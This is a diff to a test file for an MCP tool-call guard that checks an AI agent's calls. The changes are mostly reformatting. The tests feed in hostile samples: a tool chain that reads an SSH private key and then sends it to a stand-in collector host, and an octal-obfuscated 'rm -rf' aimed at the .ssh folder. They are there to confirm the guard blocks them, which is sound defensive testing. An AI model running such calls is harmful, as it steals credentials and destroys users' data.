@@ -61,7 +61,10 @@ function msg(o: Record<string, unknown>): JsonRpcMessage {
   return p.messages[0]!;
 }
 
-async function setup(settings: Partial<McpSettings> = {}, pins?: ToolPinStore | null): Promise<{ guard: McpGuard; records: AuditRecord[]; pins: ToolPinStore | null }> {
+async function setup(
+  settings: Partial<McpSettings> = {},
+  pins?: ToolPinStore | null,
+): Promise<{ guard: McpGuard; records: AuditRecord[]; pins: ToolPinStore | null }> {
   const records: AuditRecord[] = [];
   const store = pins === undefined ? openToolPinStore(await mkdtemp(join(tmpdir(), 'sluice-guard-')), { compare: comparePins }) : pins;
   const e = env(settings);
@@ -130,14 +133,25 @@ void test('a tool-call chain is one chain per agent session, across servers: rea
   const { guard, records, pins } = await setup();
   const files = guard.open(info('sess-chain'));
   const web = guard.open({ ...info('sess-chain'), server: { host: 'web.test' }, serverKey: 'web.test' });
-  const read = await guard.client(files, msg({ id: 1, method: 'tools/call', params: { name: 'files.read', arguments: { path: '/home/user/.ssh/id_rsa' } } }), meta);
+  const read = await guard.client(
+    files,
+    msg({ id: 1, method: 'tools/call', params: { name: 'files.read', arguments: { path: '/home/user/.ssh/id_rsa' } } }),
+    meta,
+  );
   assert.equal(read.kind, 'forward');
-  const send = await guard.client(web, msg({ id: 2, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://collector.example/upload' } } }), meta);
+  const send = await guard.client(
+    web,
+    msg({ id: 2, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://collector.example/upload' } } }),
+    meta,
+  );
   assert.equal(send.kind, 'reply');
   assert.match(JSON.stringify(send), /chain_blocked/);
   // Another session is unaffected.
   const other = guard.open(info('sess-other'));
-  assert.equal((await guard.client(other, msg({ id: 3, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://docs.example/' } } }), meta)).kind, 'forward');
+  assert.equal(
+    (await guard.client(other, msg({ id: 3, method: 'tools/call', params: { name: 'web.fetch', arguments: { url: 'https://docs.example/' } } }), meta)).kind,
+    'forward',
+  );
   assert.ok(records.some((r) => r.reason === 'chain_blocked' && r.tool === 'web.fetch'));
   await pins!.close();
 });
@@ -160,9 +174,18 @@ void test('an allowed call left unanswered is recorded when its channel closes; 
   const ch = guard.open(info());
   await guard.client(ch, msg({ id: 'a', method: 'tools/call', params: { name: 'tickets.create', arguments: { title: 't' } } }), meta);
   await guard.client(ch, msg({ id: 'b', method: 'tools/call', params: { name: 'tickets.delete', arguments: {} } }), meta);
-  assert.deepEqual(records.map((r) => [r.tool, r.outcome, r.rule]), [['tickets.delete', 'deny', 'no-delete']]);
+  assert.deepEqual(
+    records.map((r) => [r.tool, r.outcome, r.rule]),
+    [['tickets.delete', 'deny', 'no-delete']],
+  );
   guard.close(ch);
-  assert.deepEqual(records.map((r) => [r.tool, r.outcome, r.error]), [['tickets.delete', 'deny', null], ['tickets.create', 'allow', 'no_result']]);
+  assert.deepEqual(
+    records.map((r) => [r.tool, r.outcome, r.error]),
+    [
+      ['tickets.delete', 'deny', null],
+      ['tickets.create', 'allow', 'no_result'],
+    ],
+  );
   await pins!.close();
 });
 
@@ -175,13 +198,21 @@ void test('a malformed tools/call is refused with invalid params and nothing is 
   await pins!.close();
 });
 
-void test('an obfuscated command word in a shell tool\'s arguments is refused; the same command written plainly is not', async () => {
+void test("an obfuscated command word in a shell tool's arguments is refused; the same command written plainly is not", async () => {
   const { guard, records, pins } = await setup();
   const ch = guard.open(info('sess-shell'));
-  const bad = await guard.client(ch, msg({ id: 1, method: 'tools/call', params: { name: 'shell.run', arguments: { command: "$'\\162\\155' -rf /home/user/.ssh" } } }), meta);
+  const bad = await guard.client(
+    ch,
+    msg({ id: 1, method: 'tools/call', params: { name: 'shell.run', arguments: { command: "$'\\162\\155' -rf /home/user/.ssh" } } }),
+    meta,
+  );
   assert.equal(bad.kind, 'reply');
   assert.match(JSON.stringify(bad), /shell_obfuscation_blocked/);
-  const plain = await guard.client(ch, msg({ id: 2, method: 'tools/call', params: { name: 'shell.run', arguments: { command: 'ls -la /home/user/projects' } } }), meta);
+  const plain = await guard.client(
+    ch,
+    msg({ id: 2, method: 'tools/call', params: { name: 'shell.run', arguments: { command: 'ls -la /home/user/projects' } } }),
+    meta,
+  );
   assert.equal(plain.kind, 'forward');
   assert.ok(records.some((r) => r.reason === 'shell_obfuscation_blocked' && r.findings.some((f) => f.type.startsWith('shell_obfuscation:'))));
   // The argument's own spelling, not the digits alone: decision ids and times may hold `162`.
